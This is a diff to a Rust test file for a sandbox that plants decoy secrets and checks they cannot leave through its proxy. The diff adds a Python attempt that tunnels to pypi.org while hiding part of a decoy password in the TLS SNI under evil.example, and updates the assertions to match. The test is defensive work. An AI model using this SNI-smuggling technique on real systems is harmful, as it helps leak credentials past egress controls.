@@ -290,6 +290,20 @@ for how, req in tries.items():
         print("SENT", how)
     except Exception as e:
         print("FAILED", how, str(e)[:100])
+if len(sys.argv) > 2:
+    # A tunnel to an allowed host whose TLS hello names another: the piece in the SNI.
+    import socket, ssl, urllib.parse
+    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
+    try:
+        s = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
+        s.sendall(b"CONNECT " + sys.argv[2].encode() + b":443 HTTP/1.1\r\n\r\n")
+        answer = s.recv(200).split(b"\r\n")[0]
+        if b" 200 " not in answer:
+            raise OSError(answer.decode())
+        t = ssl.create_default_context().wrap_socket(s, server_hostname=pw[-12:] + ".evil.example")
+        print("SENT sni")
+    except Exception as e:
+        print("FAILED sni", str(e)[:100])
 "#;
 
 /// A server that writes down what it receives (path, the decoded Authorization, the body).
@@ -358,7 +372,7 @@ fn a_decoy_sent_out_is_caught() {
         );
 
         let fetch = fx.script("fetch.py", FETCH_PY);
-        let reach = fx.outside(&format!("{PYTHON} {fetch} http://pypi.org/simple/six/"));
+        let reach = fx.outside(&format!("{PYTHON} {fetch} https://pypi.org/simple/six/"));
         let report = fx.root.join("sent.json");
         let report_s = report.display().to_string();
         fx.give_to_runner(&fx.root);
@@ -370,20 +384,30 @@ fn a_decoy_sent_out_is_caught() {
             ),
         );
         assert!(
-            !inn.stdout.contains("SENT") && inn.stdout.matches("FAILED").count() == 4,
+            !inn.stdout.contains("SENT") && inn.stdout.matches("FAILED").count() == 5,
             "[{r}] nothing sent:{inn}"
         );
         assert!(
             inn.stdout.contains("NO-DNS"),
             "[{r}] no DNS in the sandbox but through the proxy:{inn}"
         );
-        for (place, form) in [
+        let reached = reach.stdout.contains("REACHED");
+        let mut places = vec![
             ("the Authorization header", "base64-encoded"),
             ("the body", "hex-encoded"),
             ("the URL", "as it is"),
             ("the host name", "a piece of it"),
-        ] {
-            let port = if place == "the host name" { 443 } else { 80 };
+        ];
+        if reached {
+            // The tunnel to pypi.org is opened (it is allowed), its TLS hello not forwarded.
+            places.push(("the TLS hello (SNI)", "a piece of it"));
+        }
+        for (place, form) in places.iter().copied() {
+            let port = if place == "the host name" || place.contains("TLS") {
+                443
+            } else {
+                80
+            };
             let dest = if place == "the host name" {
                 ""
             } else {
@@ -407,7 +431,7 @@ fn a_decoy_sent_out_is_caught() {
         let json: serde_json::Value =
             serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
         let sent = json["decoys_sent"].as_array().unwrap();
-        assert_eq!(sent.len(), 4, "[{r}] {json}");
+        assert_eq!(sent.len(), places.len(), "[{r}] {json}");
         assert_eq!(
             sent[0],
             serde_json::json!({"destination": "pypi.org:80", "decoy": "~/.netrc",
@@ -419,16 +443,21 @@ fn a_decoy_sent_out_is_caught() {
             serde_json::json!([]),
             "[{r}] not a policy matter: {json}"
         );
-        if reach.stdout.contains("REACHED") {
+        if reached {
             // The same request without a decoy's value goes through: it is the value that
             // stopped them.
-            let inn = fx.inside(
-                &["--decoys", "--net", "pypi"],
-                &format!("{PYTHON} {fetch} http://pypi.org/simple/six/"),
-            );
+            // (Whatever pypi.org answers on port 80, it is not keepout's 403.)
+            let clean = "import base64, urllib.request, urllib.error\n\
+                req = urllib.request.Request('http://pypi.org/simple/six/', headers={'Authorization': 'Basic ' + base64.b64encode(b'u:not-a-decoy').decode()})\n\
+                try:\n    print('STATUS', urllib.request.urlopen(req, timeout=20).status)\n\
+                except urllib.error.HTTPError as e:\n    print('STATUS', e.code, e.read(200))\n";
+            let clean = fx.script("clean.py", clean);
+            let inn = fx.inside(&["--decoys", "--net", "pypi"], &format!("{PYTHON} {clean}"));
             assert!(
-                inn.stdout.contains("REACHED") && !inn.stderr.contains("ALERT"),
-                "[{r}]{inn}"
+                inn.stdout.contains("STATUS")
+                    && !inn.stdout.contains("keepout")
+                    && !inn.stderr.contains("ALERT"),
+                "[{r}] forwarded:{inn}"
             );
         }
     }
